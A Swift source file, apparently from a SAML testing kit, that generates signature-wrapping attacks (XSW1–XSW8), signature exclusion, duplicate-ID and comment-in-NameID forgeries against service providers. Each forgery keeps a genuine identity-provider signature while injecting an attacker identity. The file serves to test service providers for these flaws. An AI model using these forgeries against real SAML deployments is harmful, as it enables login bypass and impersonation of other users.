import Foundation

/// Rewrites of a signed SAML Response into the signature-wrapping attacks (the XSW1–XSW8
/// of "On Breaking SAML", Somorovsky et al. 2012, as SAML Raider numbers them) and their
/// relatives. Each keeps the IdP's genuine signature and plants content a careless SP
/// would consume instead of the signed content: the attacker's NameID
/// (``evilNameID``).
///
/// They work on the text of a Response as ``SAMLResponseBuilder`` writes it (prefixes
/// `samlp:`, `saml:`, `ds:`, one Assertion, signatures right after each Issuer), which is
/// what both the catalogue generator and the mock IdP's live fault switches feed them.
public enum SAMLWrapping {
    public static let evilNameID = "mallory@evil.example"
    public static let evilAssertionID = "_evil-assertion"
    public static let evilResponseID = "_evil-response"

    /// The attacker's element IDs made unique to `salt` (a live flow's request ID): a real
    /// SP with a replay cache that once accepted a wrapped Response would refuse every
    /// later one carrying the same ID as a replay, hiding whether it is vulnerable.
    /// An empty salt keeps the fixed IDs (the committed catalogue files).
    public static func salting(_ xml: String, with salt: String) -> String {
        guard !salt.isEmpty else { return xml }
        var hash: UInt64 = 0xcbf2_9ce4_8422_2325
        for byte in salt.utf8 { hash = (hash ^ UInt64(byte)) &* 0x0100_0000_01b3 }
        let suffix = "-" + String(hash, radix: 16)
        return xml.replacingOccurrences(of: evilAssertionID, with: evilAssertionID + suffix)
            .replacingOccurrences(of: evilResponseID, with: evilResponseID + suffix)
    }

    public enum Failure: Error, CustomStringConvertible {
        case shape(String)
        public var description: String {
            switch self { case .shape(let s): "the Response does not have the expected shape: \(s)" }
        }
    }

    // MARK: the variants

    /// XSW1 (Response signed): an unsigned copy of the Response with the attacker's
    /// assertion becomes the document; the genuine signature moves into it and carries the
    /// original Response inside itself, after SignedInfo.
    public static func xsw1(_ xml: String) throws -> String {
        let (original, signature) = try responseAndItsSignature(xml)
        let moved = try insert(original, beforeClosing: "</ds:Signature>", in: signature)
        return try evilResponse(from: xml, signature: moved)
    }

    /// XSW2 (Response signed): as XSW1, but the original Response sits beside the signature,
    /// before it (a detached signature over a sibling).
    public static func xsw2(_ xml: String) throws -> String {
        let (original, signature) = try responseAndItsSignature(xml)
        return try evilResponse(from: xml, signature: original + signature)
    }

    /// XSW3 (Assertion signed): an unsigned attacker assertion is added before the signed one.
    public static func xsw3(_ xml: String) throws -> String {
        let assertion = try element("saml:Assertion", in: xml)
        return xml.replacingCharacters(in: assertion, with: try evilAssertion(String(xml[assertion])) + xml[assertion])
    }

    /// XSW4 (Assertion signed): the attacker's assertion replaces the signed one and wraps
    /// it as its last child.
    public static func xsw4(_ xml: String) throws -> String {
        let assertion = try element("saml:Assertion", in: xml)
        let wrapper = try insert(String(xml[assertion]), beforeClosing: "</saml:Assertion>", in: try evilAssertion(String(xml[assertion])))
        return xml.replacingCharacters(in: assertion, with: wrapper)
    }

    /// XSW5 (Assertion signed): the signed assertion's content is changed in place (its
    /// signature left as it was) and an unsigned copy of the original is added at the end.
    public static func xsw5(_ xml: String) throws -> String {
        let assertion = try element("saml:Assertion", in: xml)
        let original = try removingSignature(String(xml[assertion]))
        let changed = try changingNameID(String(xml[assertion]))
        return xml.replacingCharacters(in: assertion, with: changed + original)
    }

    /// XSW6 (Assertion signed): the signed assertion is changed in place and an unsigned copy
    /// of the original goes inside its signature, after SignedInfo.
    public static func xsw6(_ xml: String) throws -> String {
        let assertion = try element("saml:Assertion", in: xml)
        let original = try removingSignature(String(xml[assertion]))
        var changed = try changingNameID(String(xml[assertion]))
        let signature = try element("ds:Signature", in: changed)
        changed.replaceSubrange(signature, with: try insert(original, beforeClosing: "</ds:Signature>", in: String(changed[signature])))
        return xml.replacingCharacters(in: assertion, with: changed)
    }

    /// XSW7 (Assertion signed): the signed assertion moves into `samlp:Extensions` and the
    /// attacker's unsigned one takes its place.
    public static func xsw7(_ xml: String) throws -> String {
        let assertion = try element("saml:Assertion", in: xml)
        let signed = String(xml[assertion])
        var result = xml.replacingCharacters(in: assertion, with: try evilAssertion(signed))
        let status = try element("samlp:Status", in: result)
        result.insert(contentsOf: "<samlp:Extensions>\(signed)</samlp:Extensions>", at: status.lowerBound)
        return result
    }

    /// XSW8 (Assertion signed): the signed assertion is changed in place and a copy of the
    /// original goes into a `ds:Object` inside its signature.
    public static func xsw8(_ xml: String) throws -> String {
        let assertion = try element("saml:Assertion", in: xml)
        let original = try removingSignature(String(xml[assertion]))
        var changed = try changingNameID(String(xml[assertion]))
        let signature = try element("ds:Signature", in: changed)
        changed.replaceSubrange(
            signature, with: try insert("<ds:Object>\(original)</ds:Object>", beforeClosing: "</ds:Signature>", in: String(changed[signature])))
        return xml.replacingCharacters(in: assertion, with: changed)
    }

    /// Every signature removed (signature exclusion).
    public static func withoutSignatures(_ xml: String) throws -> String {
        var result = xml
        while let range = try? element("ds:Signature", in: result) { result.removeSubrange(range) }
        return result
    }

    /// The assertion's SignedInfo twice.
    public static func twoSignedInfos(_ xml: String) throws -> String {
        let assertion = try element("saml:Assertion", in: xml)
        var text = String(xml[assertion])
        let signedInfo = try element("ds:SignedInfo", in: text)
        text.insert(contentsOf: text[signedInfo], at: signedInfo.upperBound)
        return xml.replacingCharacters(in: assertion, with: text)
    }

    /// The assertion's Reference twice in its SignedInfo.
    public static func twoReferences(_ xml: String) throws -> String {
        let assertion = try element("saml:Assertion", in: xml)
        var text = String(xml[assertion])
        let reference = try element("ds:Reference", in: text)
        text.insert(contentsOf: text[reference], at: reference.upperBound)
        return xml.replacingCharacters(in: assertion, with: text)
    }

    /// Another element carrying the signed assertion's ID, so "the element with that ID"
    /// is ambiguous.
    public static func duplicateID(_ xml: String) throws -> String {
        let assertion = try element("saml:Assertion", in: xml)
        let id = try attribute("ID", of: String(xml[assertion]))
        var result = xml
        let status = try element("samlp:Status", in: result)
        result.insert(contentsOf: "<samlp:Extensions><saml:Issuer ID=\"\(id)\">x</saml:Issuer></samlp:Extensions>", at: status.lowerBound)
        return result
    }

    /// A comment planted inside the (signed) NameID after `prefix`: exclusive c14n without
    /// comments ignores it, so the signature still verifies, and an SP that reads only the
    /// first text node sees `prefix` (CVE-2017-11427 and its family).
    public static func commentInNameID(_ xml: String, after prefix: String) throws -> String {
        guard let range = xml.range(of: ">\(prefix)") else { throw Failure.shape("no NameID starting \(prefix)") }
        return xml.replacingCharacters(in: range, with: ">\(prefix)<!---->")
    }

    /// Whitespace added inside the signed NameID: c14n keeps text as it is, so the digest
    /// no longer matches.
    public static func whitespaceInNameID(_ xml: String) throws -> String {
        let nameID = try element("saml:NameID", in: xml)
        let text = String(xml[nameID])
        guard let close = text.range(of: "</saml:NameID>") else { throw Failure.shape("NameID") }
        return xml.replacingCharacters(in: nameID, with: text.replacingCharacters(in: close, with: " </saml:NameID>"))
    }

    // MARK: pieces

    /// The Response without its own signature, and that signature.
    static func responseAndItsSignature(_ xml: String) throws -> (response: String, signature: String) {
        let root = try element("samlp:Response", in: xml)
        let response = String(xml[root])
        let assertionStart = response.range(of: "<saml:Assertion")?.lowerBound ?? response.endIndex
        guard let signature = try? element("ds:Signature", in: response), signature.lowerBound < assertionStart else {
            throw Failure.shape("the Response is not signed")
        }
        return (response.replacingCharacters(in: signature, with: ""), String(response[signature]))
    }

    /// The document as a Response of the attacker's (new ID, the attacker's unsigned
    /// assertion) carrying `signature` after its Issuer.
    static func evilResponse(from xml: String, signature: String) throws -> String {
        var (response, _) = try responseAndItsSignature(xml)
        response = try replacingAttribute("ID", with: evilResponseID, in: response)
        let assertion = try element("saml:Assertion", in: response)
        response.replaceSubrange(assertion, with: try evilAssertion(String(response[assertion])))
        let issuer = try element("saml:Issuer", in: response)
        response.insert(contentsOf: signature, at: issuer.upperBound)
        let root = try element("samlp:Response", in: xml)
        return xml.replacingCharacters(in: root, with: response)
    }

    /// A copy of `assertion` without its signature, with the attacker's ID and NameID.
    static func evilAssertion(_ assertion: String) throws -> String {
        try replacingAttribute("ID", with: evilAssertionID, in: changingNameID(removingSignature(assertion)))
    }

    /// `element` without its first signature (as it is when it has none).
    static func removingSignature(_ element: String) throws -> String {
        guard let signature = try? self.element("ds:Signature", in: element) else { return element }
        return element.replacingCharacters(in: signature, with: "")
    }

    static func changingNameID(_ assertion: String) throws -> String {
        let nameID = try element("saml:NameID", in: assertion)
        let text = String(assertion[nameID])
        guard let open = text.firstIndex(of: ">"), let close = text.range(of: "</saml:NameID>") else { throw Failure.shape("NameID") }
        return assertion.replacingCharacters(in: nameID, with: text[...open] + evilNameID + text[close.lowerBound...])
    }

    /// The first element with this qualified name, start tag to end tag (elements of the
    /// same name inside it are counted, so the end tag is its own).
    static func element(_ name: String, in xml: String) throws -> Range<String.Index> {
        let open = "<\(name)", close = "</\(name)>"
        func isStart(_ range: Range<String.Index>) -> Bool {
            range.upperBound < xml.endIndex && [" ", ">", "/"].contains(xml[range.upperBound])
        }
        var cursor = xml.startIndex
        var start: String.Index?
        var depth = 0
        while cursor < xml.endIndex {
            let nextOpen = xml.range(of: open, range: cursor..<xml.endIndex)
            let nextClose = xml.range(of: close, range: cursor..<xml.endIndex)
            if let o = nextOpen, nextClose.map({ o.lowerBound < $0.lowerBound }) ?? true {
                if isStart(o) {
                    if start == nil { start = o.lowerBound }
                    depth += 1
                }
                cursor = o.upperBound
            } else if let c = nextClose, let first = start {
                depth -= 1
                cursor = c.upperBound
                if depth == 0 { return first..<c.upperBound }
            } else {
                break
            }
        }
        throw Failure.shape(start == nil ? "no \(name)" : "\(name) is not closed")
    }

    static func attribute(_ name: String, of element: String) throws -> String {
        guard let tagEnd = element.firstIndex(of: ">"), let start = element.range(of: " \(name)=\"", range: element.startIndex..<tagEnd),
            let end = element[start.upperBound...].firstIndex(of: "\"")
        else { throw Failure.shape("no \(name) attribute") }
        return String(element[start.upperBound..<end])
    }

    static func replacingAttribute(_ name: String, with value: String, in element: String) throws -> String {
        guard let tagEnd = element.firstIndex(of: ">"), let start = element.range(of: " \(name)=\"", range: element.startIndex..<tagEnd),
            let end = element[start.upperBound...].firstIndex(of: "\"")
        else { throw Failure.shape("no \(name) attribute") }
        return element.replacingCharacters(in: start.upperBound..<end, with: value)
    }

    static func insert(_ content: String, beforeClosing tag: String, in element: String) throws -> String {
        guard let close = element.range(of: tag, options: .backwards) else { throw Failure.shape("no \(tag)") }
        return element.replacingCharacters(in: close.lowerBound..<close.lowerBound, with: content)
    }
}
